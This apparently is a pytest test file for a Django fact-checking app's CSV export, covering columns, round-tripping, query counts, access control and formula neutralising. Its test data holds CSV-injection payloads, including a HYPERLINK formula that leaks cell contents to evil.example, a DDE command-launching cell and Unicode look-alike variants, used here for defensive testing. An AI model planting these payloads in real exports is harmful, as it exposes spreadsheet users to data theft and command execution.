"""The CSV export: its columns, what survives a round trip, formula neutralising, streaming."""

from __future__ import annotations

import csv
import io
import itertools
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.contrib.auth.models import User
from django.core.management import CommandError, call_command
from django.db import connection
from django.test import Client
from django.urls import reverse

from claims import csv_sql, exports, workflow
from claims.choices import (
    Agreement,
    ClaimStatus,
    DatePrecision,
    DisputeStatus,
    Stance,
    ValueKind,
)
from claims.exports import BOM, csv_lines, header_row, neutralise, restore, safe_cells
from claims.filters import ClaimFilter
from claims.models import Appearance, Claim, Dispute, Evidence, Property, Source, Verdict
from tests.factories import make_claim, make_source, make_subject

BASE = "https://factcheck.example.org"
TRICKY = 'L’IA « française », dite "souveraine" ; ça coûte 5 € —\nsur deux lignes\r\net plus'
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3"]
FORMULAS += ["@SUM(1+1)*cmd", "\t=1+1", "\r=1+1"]


def export_text(queryset=None, *, bom: bool = True, **kwargs) -> str:
    queryset = Claim.objects.all() if queryset is None else queryset
    return "".join(csv_lines(queryset, base_url=BASE, bom=bom, **kwargs))


def parse(text: str) -> list[dict[str, str]]:
    """The export read back as a spreadsheet user's script would: csv.DictReader."""
    assert text.startswith(BOM)
    reader = csv.DictReader(io.StringIO(text[len(BOM) :], newline=""))
    assert reader.fieldnames == header_row()
    return list(reader)


def by_key(row: dict[str, str]) -> dict[str, str]:
    """A row keyed by column key rather than by (translated) header."""
    labels = dict(zip(header_row(), exports.COLUMN_KEYS, strict=True))
    return {labels[label]: value for label, value in row.items()}


# --- neutralising formulas -----------------------------------------------------------


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_get_a_leading_apostrophe(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert restore(neutralise(cell)) == cell


# Look-alikes (issue 17): what NFKC turns into a trigger, dashes and minus signs, and
# a trigger behind invisible characters.
LOOK_ALIKES = [
    '＝HYPERLINK("http://evil.example")',  # U+FF1D full-width equals
    "＋cmd|' /C calc'!A0",  # U+FF0B full-width plus
    "－2+3",  # U+FF0D full-width hyphen-minus
    "＠SUM(1+1)",  # U+FF20 full-width commercial at
    "﹦1+1",  # U+FE66 small equals
    "﹢1",  # U+FE62 small plus
    "−2+3",  # U+2212 minus sign
    "–2+3",  # U+2013 en dash
    "—1",  # U+2014 em dash
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte order mark
    "\u2060\u200d+1",  # word joiner, zero-width joiner
    "\u2066=1+1",  # left-to-right isolate
    "\u202e=1+1",  # right-to-left override
]


@pytest.mark.parametrize("cell", LOOK_ALIKES)
def test_formula_look_alikes_get_a_leading_apostrophe(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert restore(neutralise(cell)) == cell
    assert safe_cells([cell]) == ["'" + cell]


def test_an_escaped_look_alike_is_escaped_once_more_and_restored() -> None:
    cell = "'＝1"
    assert neutralise(cell) == "''＝1"
    assert restore(neutralise(cell)) == cell


@pytest.mark.parametrize(
    "cell",
    ["", "plain", "'tis", "'quoted'", "5 %", "0.14", "a=b", " =1", "Équipe", "«=»", "\u200b", "·1"],
)
def test_harmless_cells_are_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell
    assert restore(cell) == cell


def test_neutralise_and_restore_are_exact_inverses() -> None:
    # Every string of up to four characters over the characters that matter.
    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "a", "1", "＝", "−", "\u200b", "é"]
    for length in range(5):
        for chars in itertools.product(alphabet, repeat=length):
            cell = "".join(chars)
            escaped = neutralise(cell)
            assert restore(escaped) == cell
            assert escaped[:1] not in exports.FORMULA_TRIGGERS
            assert not exports.starts_like_a_formula(escaped)


# --- the file ------------------------------------------------------------------------


def test_it_has_one_row_per_claim_under_the_header(deepseek) -> None:
    rows = parse(export_text())
    assert len(rows) == Claim.objects.count() == 23
    assert {int(by_key(row)["id"]) for row in rows} == set(
        Claim.objects.values_list("pk", flat=True)
    )


def test_it_starts_with_a_bom_unless_told_not_to(deepseek) -> None:
    assert export_text().startswith("\ufeff")
    without = export_text(bom=False)
    assert not without.startswith("\ufeff")
    assert without.startswith('"Claim ID","Statement"')
    # RFC 4180 records, every cell quoted.
    assert without.split("\r\n", 1)[0].count('"') == 2 * len(exports.COLUMNS)


def test_accents_quotes_commas_and_newlines_round_trip(db) -> None:
    claim = make_claim(statement=TRICKY, value_text="0,14 $ « environ »")
    row = by_key(parse(export_text())[0])
    assert row["statement"] == TRICKY
    assert row["value_text"] == "0,14 $ « environ »"
    assert row["subject"] == claim.subject.name
    # The bytes a browser saves are UTF-8 with a BOM, which Excel needs for "é".
    assert export_text().encode("utf-8").startswith(b"\xef\xbb\xbf")


def test_formula_cells_come_out_inert(db) -> None:
    for formula in FORMULAS:
        make_claim(statement=formula, value_text=formula)
    make_claim(statement="'=already escaped once", value_text="-5")
    rows = [by_key(row) for row in parse(export_text())]
    for row in rows:
        for cell in row.values():
            assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}, cell
    statements = sorted(restore(row["statement"]) for row in rows)
    assert statements == sorted([*FORMULAS, "'=already escaped once"])
    assert {row["value_text"] for row in rows if "escaped" in restore(row["statement"])} == {"'-5"}


def test_a_row_holds_the_claim_its_verdict_and_its_evidence(
    deepseek, reviewer: User, editor: User
) -> None:
    claim = Claim.objects.get(statement__startswith="Access to the DeepSeek-R1 API")
    source = claim.appearances.get().source
    Source.objects.filter(pk=source.pk).update(url="https://news.example.fr/deepseek")
    for stance in [Stance.SUPPORTS, Stance.SUPPORTS, Stance.REFUTES, Stance.CONTEXT]:
        workflow.add_evidence(claim, by=reviewer, stance=stance, url="https://x.example/")
    # $0.14 (article A) against $0.55 (article B).
    Dispute.objects.update_or_create(
        subject=claim.subject,
        property=claim.property,
        defaults={"agreement": Agreement.CONFLICT, "status": DisputeStatus.OPEN},
    )
    verdict = workflow.propose_verdict(
        claim, by=reviewer, rating="mostly_true", rationale="The price list says $0.14."
    )
    workflow.approve_verdict(verdict, by=editor)

    rows = {int(by_key(r)["id"]): by_key(r) for r in parse(export_text())}
    row = rows[claim.pk]
    assert row["subject"] == "DeepSeek-R1"
    assert row["property"] == claim.property.code
    assert (row["value_kind"], row["value_text"]) == ("money", "0,14 $")
    assert (row["value_normalised"], row["currency"], row["unit"]) == ("0.14", "USD", "token")
    assert row["per"] == "1000000"
    assert (row["status"], row["rating"], row["rating_value"]) == ("published", "mostly_true", "4")
    assert row["rationale"] == "The price list says $0.14."
    assert (row["reviewer"], row["approved_by"]) == ("rita", "eddie")
    assert datetime.fromisoformat(row["approved_at"]).tzinfo is not None
    assert "0,14 $" in row["first_quote"]
    assert row["source_titles"] == source.title
    assert row["source_urls"] == "https://news.example.fr/deepseek"
    counts = [row[f"evidence_{s}"] for s in ("supports", "refutes", "mixed", "context")]
    assert counts == ["2", "1", "0", "1"]
    assert row["disputed"] == "yes"
    assert row["url"] == f"{BASE}/claims/{claim.pk}/"

    founded = Claim.objects.get(statement="DeepSeek was founded in May 2023.")
    assert rows[founded.pk]["value_normalised"] == "2023-05"
    assert rows[founded.pk]["rating"] == rows[founded.pk]["reviewer"] == ""
    parameters = Claim.objects.get(statement="DeepSeek-R1 has 671 billion parameters.")
    assert rows[parameters.pk]["value_normalised"] == "671000000000"
    assert rows[parameters.pk]["disputed"] == "no"


def test_a_proposed_verdict_has_an_author_but_no_approval(deepseek, reviewer: User) -> None:
    claim = Claim.objects.get(statement="DeepSeek was founded in 2021.")
    workflow.propose_verdict(claim, by=reviewer, rating="unverifiable", rationale="No registry.")
    row = next(by_key(r) for r in parse(export_text()) if by_key(r)["id"] == str(claim.pk))
    assert (row["rating"], row["rating_value"], row["reviewer"]) == ("unverifiable", "", "rita")
    assert row["approved_by"] == row["approved_at"] == ""


def test_a_sent_back_verdict_leaves_no_rating(deepseek, reviewer: User, editor: User) -> None:
    claim = Claim.objects.get(statement="DeepSeek was founded in 2021.")
    verdict = workflow.propose_verdict(claim, by=reviewer, rating="false", rationale="Wrong.")
    workflow.send_back_verdict(verdict, by=editor, comment="Cite the registry.")
    row = next(by_key(r) for r in parse(export_text()) if by_key(r)["id"] == str(claim.pk))
    assert row["rating"] == row["rationale"] == row["reviewer"] == ""


# --- bounded queries ---------------------------------------------------------------------


def _make_claims(count: int, reviewer: User) -> None:
    """Claims with quotes, some evidence and some verdicts, in bulk (the signals are not
    needed here, and 200 claims one by one would take seconds)."""
    source = make_source()
    subjects = [make_subject() for _n in range(5)]
    prop = Property.objects.get(code="founding-date")
    claims = Claim.objects.bulk_create(
        Claim(
            statement=f"Exemple was founded in 2019 (#{n}).",
            subject=subjects[n % 5],
            property=prop,
            value_kind=ValueKind.DATE,
            value_text="2019",
            value_date=date(2019, 1, 1),
            value_date_precision=DatePrecision.YEAR,
            rating="false" if n % 4 == 0 else "",
        )
        for n in range(count)
    )
    Appearance.objects.bulk_create(
        Appearance.find(claim=claim, source=source, exact="fondée en 2019") for claim in claims
    )
    Evidence.objects.bulk_create(
        Evidence(claim=claim, url="https://e.example/", stance=Stance.REFUTES, added_by=reviewer)
        for claim in claims[::3]
    )
    Verdict.objects.bulk_create(
        Verdict(claim=claim, rating="false", rationale="No.", author=reviewer)
        for claim in claims[::4]
    )


@pytest.mark.parametrize("count", [10, 200])
def test_queries_do_not_grow_with_rows(
    count: int, reviewer: User, django_assert_num_queries
) -> None:
    _make_claims(count, reviewer)
    # SQLite: 1. the claims with subject, property, dispute flag and evidence counts
    # 2. their appearances with their sources 3. their current verdicts with their people.
    # PostgreSQL: the one query that writes the lines, between turning parallel
    # workers off and back on.
    with django_assert_num_queries(3):
        rows = parse(export_text())
    assert len(rows) == count


def test_queries_are_bounded_per_chunk(reviewer: User, django_assert_num_queries) -> None:
    _make_claims(30, reviewer)
    # 1. the claims, read from one cursor ten at a time
    # 2-7. on SQLite, for each of the three chunks: its appearances, its verdicts
    # (PostgreSQL: the query that writes the lines, between two settings)
    with django_assert_num_queries(7 if connection.vendor == "sqlite" else 3):
        rows = parse(export_text(chunk_size=10))
    assert len(rows) == 30


# --- the view ------------------------------------------------------------------------------


def download(client: Client, query: str = "") -> str:
    response = client.get(reverse("claim_export") + query)
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="claims-')
    return b"".join(response.streaming_content).decode("utf-8")


def test_it_sends_anonymous_users_to_log_in(client: Client, db) -> None:
    response = client.get(reverse("claim_export"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_it_refuses_people_without_a_role(client: Client, outsider: User) -> None:
    client.force_login(outsider)
    assert client.get(reverse("claim_export")).status_code == 403


def test_it_rejects_post(client: Client, reviewer: User) -> None:
    client.force_login(reviewer)
    assert client.post(reverse("claim_export")).status_code == 405


@pytest.mark.parametrize(
    "query",
    [
        "",
        "?q=deepseek-r1",
        "?q=deepseek-r1&status=new&ordering=subject",
        "?disputed=true&ordering=-statement",
        "?q=fondee&page=1",
    ],
)
def test_it_exports_what_the_list_shows(
    client: Client, deepseek, reviewer: User, query: str
) -> None:
    founded = Claim.objects.get(statement="DeepSeek was founded in 2021.")
    # Detected when the demo case loaded: the founding dates conflict.
    assert Dispute.objects.get(
        subject=founded.subject, property=founded.property, agreement=Agreement.CONFLICT
    )
    workflow.start_research(
        Claim.objects.get(statement__startswith="Using DeepSeek-R1"), by=reviewer
    )
    client.force_login(reviewer)
    listed = [claim.pk for claim in client.get(reverse("claim_list") + query).context["page"]]
    exported = [int(by_key(row)["id"]) for row in parse(download(client, query))]
    assert exported == listed
    assert listed


def test_the_list_links_to_the_export_of_its_filters(
    client: Client, deepseek, reviewer: User
) -> None:
    client.force_login(reviewer)
    response = client.get(reverse("claim_list"), {"q": "deepseek-r1", "status": "new"})
    assert f'href="{reverse("claim_export")}?q=deepseek-r1&amp;status=new"' in response.text
    assert f'href="{reverse("claim_import")}"' in response.text


def test_bom_can_be_turned_off(client: Client, deepseek, reviewer: User) -> None:
    client.force_login(reviewer)
    text = download(client, "?bom=0&status=new")
    assert text.startswith('"Claim ID"')
    assert len(list(csv.reader(io.StringIO(text, newline="")))) == 24


def test_claim_urls_come_from_the_request(client: Client, deepseek, reviewer: User) -> None:
    client.force_login(reviewer)
    row = by_key(parse(download(client))[0])
    assert row["url"] == f"http://testserver/claims/{row['id']}/"


# --- the command ------------------------------------------------------------------------------


def test_the_command_writes_published_verdicts_to_a_file(
    tmp_path, deepseek, reviewer: User, editor: User
) -> None:
    claim = Claim.objects.get(statement="DeepSeek was founded in 2021.")
    workflow.approve_verdict(
        workflow.propose_verdict(claim, by=reviewer, rating="mostly_true", rationale="Yes."),
        by=editor,
    )
    out = tmp_path / "verdicts.csv"
    call_command("export_verdicts", "--status", "published", "-o", str(out), "--base-url", BASE)
    rows = [by_key(row) for row in parse(out.read_text(encoding="utf-8"))]
    assert [(row["id"], row["rating"]) for row in rows] == [(str(claim.pk), "mostly_true")]
    assert rows[0]["url"] == f"{BASE}/claims/{claim.pk}/"


def test_the_command_writes_everything_to_stdout_without_bom(deepseek) -> None:
    stdout, stderr = io.StringIO(), io.StringIO()
    call_command("export_verdicts", "--no-bom", stdout=stdout, stderr=stderr)
    rows = list(csv.DictReader(io.StringIO(stdout.getvalue(), newline="")))
    assert len(rows) == 23
    assert {row["Status"] for row in rows} == {ClaimStatus.NEW}
    # Without a base URL the links are paths, and the command says so.
    assert rows[0]["Claim URL"].startswith("/claims/")
    assert "FACTCHECK_BASE_URL" in stderr.getvalue()


def test_the_command_refuses_an_unknown_status(db) -> None:
    with pytest.raises(CommandError):
        call_command("export_verdicts", "--status", "bogus")


def test_numbers_are_written_without_exponent() -> None:
    assert exports.format_number(Decimal("6.71E+11")) == "671000000000"
    assert exports.format_number(Decimal("0.1400000000")) == "0.14"
    assert exports.format_number(Decimal("-5.50")) == "-5.5"
    assert exports.format_number(None) == ""


def test_the_filter_is_the_lists(deepseek) -> None:
    # The export takes ClaimFilter and nothing else: one definition of "which claims".
    claims = ClaimFilter({"q": "deepseek-r1"}, queryset=Claim.objects.all()).qs
    assert len(parse(export_text(claims))) == claims.count() > 0


# --- PostgreSQL writes the lines itself ------------------------------------------------------

on_postgresql = pytest.mark.skipif(
    connection.vendor != "postgresql", reason="the lines PostgreSQL writes (claims.csv_sql)"
)


def test_the_formula_characters_written_out_are_this_pythons() -> None:
    # If a Python upgrade brings a newer Unicode, this says which characters to add.
    invisible, starts = csv_sql.derived_formula_characters()
    assert csv_sql.expand(csv_sql.INVISIBLE) == invisible
    assert csv_sql.expand(csv_sql.FORMULA_STARTS) == starts
    assert not invisible & starts


@on_postgresql
@pytest.mark.parametrize(
    ("before", "after"), [("", "x"), ("", "=1"), ("'", "x"), ("\u2066", "x"), ("'\u200b", "x")]
)
def test_postgresql_neutralises_what_python_does_for_every_character(
    db, before: str, after: str
) -> None:
    # before + <every code point but NUL and the surrogates> + after, through the SQL
    # of a cell and through exports.neutralise.
    def text(code: int) -> str:
        return before + chr(code) + after

    codes = [code for code in range(1, 0x110000) if not 0xD800 <= code <= 0xDFFF]
    expected = {code for code in codes if neutralise(text(code)) != text(code)}
    value = f"{csv_sql._literal(before)} || chr(i) || {csv_sql._literal(after)}"
    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT i FROM (SELECT i, {value} AS t FROM generate_series(1, 1114111) i"
            " WHERE i NOT BETWEEN 55296 AND 57343) s"
            f" WHERE {csv_sql.cell('s.t')} <> '\"' || replace(s.t, '\"', '\"\"') || '\"'"
        )
        found = {code for (code,) in cursor.fetchall()}
    assert found == expected
    assert expected  # the apostrophes and the triggers at least


def _everything_a_line_can_hold(reviewer: User, editor: User) -> None:
    """Claims whose every cell takes each form it can: formulas and their look-alikes,
    quotes, newlines, NULLs, partial dates, scaled decimals, several sources (dated,
    undated, with and without URL), verdicts proposed, approved and sent back."""
    dated = make_source(
        title='=Le "Monde"',
        url="https://a.example/1",
        published_on=date(2025, 1, 2),
        published_precision=DatePrecision.DAY,
    )
    undated = make_source(title="Sans date\nni URL", url="")
    older = make_source(
        title="\u2212Older", url="", published_on=date(2024, 6, 1), published_precision="month"
    )
    subject = make_subject("@Valmont")
    claims = [
        make_claim(statement=TRICKY, value_text="−5 %", subject=subject, source=dated),
        make_claim(
            statement="\u200b=1+1",
            value_kind=ValueKind.QUANTITY,
            value_number=Decimal("-671000000000"),
            value_per=Decimal("1000000.0000"),
            value_unit="'=token",
            value_currency="USD",
            source=undated,
        ),
        make_claim(
            statement="'tis fine",
            value_kind=ValueKind.MONEY,
            value_number=Decimal("0.1400000000"),
            source=older,
        ),
        make_claim(
            value_kind=ValueKind.DATE,
            value_date=date(2023, 5, 1),
            value_date_precision=DatePrecision.MONTH,
            source=undated,
        ),
        make_claim(
            value_kind=ValueKind.DATE,
            value_date=date(21, 1, 1),
            value_date_precision=DatePrecision.YEAR,
        ),
        make_claim(
            value_kind=ValueKind.DATE,
            value_date=date(2021, 3, 9),
            value_date_precision=DatePrecision.DAY,
        ),
        make_claim(value_kind=ValueKind.QUANTITY, value_qualifier="about"),
        make_claim(value_kind=ValueKind.TEXT, value_text="+33 1 23"),
    ]
    # More quotes: the same claim in an older source and twice in the same one.
    Appearance.find(claim=claims[0], source=older, exact="fondée en 2019").save()
    Appearance.find(claim=claims[0], source=undated, exact="fondée en 2019").save()
    Claim.objects.create(
        statement="No quote at all",
        subject=subject,
        property=Property.objects.get(code="founding-date"),
    )
    for stance in [Stance.SUPPORTS, Stance.MIXED, Stance.MIXED, Stance.CONTEXT]:
        workflow.add_evidence(claims[0], by=reviewer, stance=stance, url="https://x.example/")
    approved = workflow.propose_verdict(
        claims[0], by=reviewer, rating="mostly_true", rationale='-"Yes", mostly;\r\nsee =A1'
    )
    workflow.approve_verdict(approved, by=editor)
    workflow.propose_verdict(claims[1], by=reviewer, rating="unverifiable", rationale="@no source")
    sent_back = workflow.propose_verdict(claims[2], by=reviewer, rating="false", rationale="Wrong.")
    workflow.send_back_verdict(sent_back, by=editor, comment="Cite it.")
    workflow.propose_verdict(claims[3], by=reviewer, rating="false", rationale="First try.")
    workflow.propose_verdict(claims[3], by=editor, rating="false", rationale="Second try.")
    Dispute.objects.update_or_create(
        subject=subject,
        property=claims[0].property,
        defaults={"agreement": Agreement.CONFLICT, "status": DisputeStatus.OPEN},
    )


@on_postgresql
@pytest.mark.parametrize("chunk_size", [3, exports.CHUNK_SIZE])
def test_postgresql_writes_the_lines_python_writes(
    deepseek, reviewer: User, editor: User, chunk_size: int
) -> None:
    _everything_a_line_can_hold(reviewer, editor)
    for query in [{}, {"q": "valmont"}, {"o": "statement"}, {"status": ClaimStatus.PUBLISHED}]:
        claims = ClaimFilter(query, queryset=Claim.objects.all()).qs
        written = export_text(claims, chunk_size=chunk_size, in_database=True)
        assert written == export_text(claims, chunk_size=chunk_size, in_database=False), query
    assert len(parse(written)) == Claim.objects.filter(status=ClaimStatus.PUBLISHED).count()


@on_postgresql
@pytest.mark.parametrize("zone", ["Asia/Kolkata", "America/St_Johns", "UTC"])
def test_postgresql_writes_the_time_of_approval_in_the_sites_time_zone(
    reviewer: User, editor: User, settings, zone: str
) -> None:
    settings.TIME_ZONE = zone
    _everything_a_line_can_hold(reviewer, editor)
    verdict = Verdict.objects.get(status="approved")
    (row,) = [by_key(row) for row in parse(export_text(in_database=True)) if row_has(row, TRICKY)]
    assert row["approved_at"] == exports.format_datetime(verdict.reviewed_at)
    assert row["approved_at"].endswith({"Asia/Kolkata": "+05:30", "UTC": "+00:00"}.get(zone, ":30"))
    assert export_text(in_database=True) == export_text(in_database=False)


def row_has(row: dict[str, str], statement: str) -> bool:
    return by_key(row)["statement"] == statement


@on_postgresql
def test_postgresql_gets_its_parallel_workers_back_when_a_download_is_abandoned(
    reviewer: User,
) -> None:
    _make_claims(30, reviewer)

    def workers() -> str:
        with connection.cursor() as cursor:
            cursor.execute("SHOW max_parallel_workers_per_gather")
            return cursor.fetchone()[0]

    before = workers()
    blocks = csv_lines(Claim.objects.all(), base_url=BASE, chunk_size=10)
    next(blocks)  # the header
    next(blocks)  # the first ten claims: the query runs without parallel workers
    assert workers() == "0"
    blocks.close()  # the browser went away
    assert workers() == before
    assert len(parse(export_text(chunk_size=10))) == 30
    assert workers() == before


@on_postgresql
def test_postgresql_compiles_no_query_just_in_time(db) -> None:
    # The export's query costs past jit_above_cost: compiling it took 2.1 s of 2.9 s.
    with connection.cursor() as cursor:
        cursor.execute("SHOW jit")
        assert cursor.fetchone()[0] == "off"
